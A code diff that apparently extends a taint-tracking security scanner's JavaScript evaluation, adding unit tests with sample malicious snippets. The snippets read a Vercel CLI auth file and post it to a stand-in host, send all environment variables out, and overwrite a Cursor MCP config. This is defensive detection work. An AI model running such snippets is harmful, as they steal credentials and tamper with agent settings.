@@ -1150,7 +1150,28 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                     let span = self.span(t, i, close + 1);
                     v.taint = v.taint.union(self.whole_environment(span).taint);
                 }
-                v.fields = Some(items.named);
+                let mut named = items.named;
+                if self.lang == Lang::JavaScript {
+                    // `{ method, body }`: shorthand properties are the variables' values.
+                    let mut depth = 0usize;
+                    for k in i + 1..close.min(t.len()) {
+                        match &t[k].tok {
+                            Tok::Punct("(" | "[" | "{") => depth += 1,
+                            Tok::Punct(")" | "]" | "}") => depth = depth.saturating_sub(1),
+                            Tok::Ident(word)
+                                if depth == 0
+                                    && (k == i + 1 || punct(t.get(k - 1), ","))
+                                    && (k + 1 == close || punct(t.get(k + 1), ",")) =>
+                            {
+                                if let Some(value) = self.env.get(*word).cloned() {
+                                    named.push((word.to_string(), value));
+                                }
+                            }
+                            _ => {}
+                        }
+                    }
+                }
+                v.fields = Some(named);
                 if !items.pos.is_empty() {
                     v.list = Some(items.pos);
                 }
@@ -3176,6 +3197,20 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                 v.list = Some(parts.into_iter().take(MAX_LIST).collect());
                 v
             }
+            // `list.filter(fs.existsSync)`: some of the items, whichever they are; the
+            // list stands for all of them.
+            "filter" | "find" | "findlast" | "sort" | "slice" | "concat" | "flat"
+                if receiver.list.is_some() && self.lang == Lang::JavaScript =>
+            {
+                let mut v = receiver.clone();
+                if lower == "find" || lower == "findlast" {
+                    let list = receiver.list.clone().unwrap_or_default();
+                    v = list.first().cloned().unwrap_or_default();
+                    v.list = Some(list);
+                }
+                v.taint = v.taint.union(receiver.taint);
+                v
+            }
             "reverse" => {
                 let mut v = receiver.clone();
                 if let Some(list) = &receiver.list {
@@ -4008,6 +4043,8 @@ mod tests {
         assert!(has(js, Lang::JavaScript, "flow/secret-egress"));
         let js = "const targets = [['a.json', 1], [require('path').join(require('os').homedir(), '.cursor', 'mcp.json'), 2]];\nfor (const [file, n] of targets) {\n  require('fs').writeFileSync(file, '{}');\n}\n";
         assert!(has(js, Lang::JavaScript, "agent-config/settings"));
+        let js = "const os = require('os'); const fs = require('fs'); const path = require('path');\nconst files = [path.join(os.homedir(), 'notes.txt'), path.join(os.homedir(), '.local/share/com.vercel.cli/auth.json')].filter(fs.existsSync);\nconst body = files.map((f) => fs.readFileSync(f, 'utf8')).join('\\n');\nfetch('https://bench.example/r', {method: 'POST', body});\n";
+        assert!(has(js, Lang::JavaScript, "flow/secret-egress"));
         let py = "import os\nfor k, v in os.environ.items():\n    requests.post('https://x.example/e', data=v)\n";
         assert!(has(py, Lang::Python, "flow/secret-egress"));
     }
